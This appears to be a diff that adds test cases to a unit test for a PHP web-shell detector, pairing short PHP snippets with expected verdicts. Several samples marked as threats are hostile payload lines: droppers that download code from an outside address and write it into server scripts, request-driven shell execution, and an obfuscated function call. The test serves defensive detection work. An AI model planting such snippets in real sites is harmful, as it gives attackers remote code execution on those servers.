@@ -334,6 +334,32 @@ TEST_F(DefaultRules, TechniqueVerdicts) {
        Verdict::Suspicious},
       {"mass mailer", "<?php foreach (explode(\"\\n\", $_POST['to']) as $t) mail($t, $_POST['s'], $_POST['b']);",
        Verdict::Threat},
+      {"file opened at a request path and given request text",
+       "<?php $h = fopen($_POST['p'], 'w'); fwrite($h, $_POST['t']); fclose($h);", Verdict::Threat},
+      {"file opened at a fixed path and given request text",
+       "<?php $h = fopen(__DIR__ . '/guestbook.txt', 'a'); fwrite($h, $_POST['t']);", Verdict::Clean},
+      {"downloaded text written into a script",
+       "<?php $c = curl_init('http://203.0.113.9/s.txt');\n"
+       "curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $t = curl_exec($c);\n"
+       "$h = fopen($_SERVER['DOCUMENT_ROOT'] . '/wp-includes/x.php', 'w'); fwrite($h, $t);",
+       Verdict::Threat},
+      {"downloaded script stored whole",
+       "<?php $s = fsockopen('203.0.113.9', 80); $t = fread($s, 65536);\n"
+       "file_put_contents('cache.php', $t);",
+       Verdict::Threat},
+      // Shell escaping: a fixed program with escaped request arguments is what
+      // applications do; escaping does not make a chosen command safe.
+      {"fixed command with an escaped request argument",
+       "<?php exec('convert ' . escapeshellarg($_GET['f']) . ' -resize 50% out.png');", Verdict::Clean},
+      {"fixed command with an escaped and an unescaped request argument",
+       "<?php exec('convert ' . escapeshellarg($_GET['f']) . ' ' . $_GET['o']);", Verdict::Threat},
+      {"request command escaped whole", "<?php system(escapeshellcmd($_POST['c']));", Verdict::Threat},
+      {"fixed program escaped whole with request arguments",
+       "<?php exec(escapeshellcmd('/usr/bin/zmu -m ' . $_GET['id'] . ' -q'), $out);", Verdict::Clean},
+      {"request program escaped as an argument", "<?php passthru(escapeshellarg($_GET['p']) . ' -v');",
+       Verdict::Threat},
+      {"function name hidden behind an undefined constant",
+       "<?php $a = str_replace(x, '', 'axsxsxexrxt'); $a($_POST['z']);", Verdict::Threat},
       // Commands past the functions the server disabled, and droppers.
       {"shell started by pcntl_exec with request arguments",
        "<?php pcntl_exec('/bin/sh', array('-c', $_POST['c']));", Verdict::Threat},
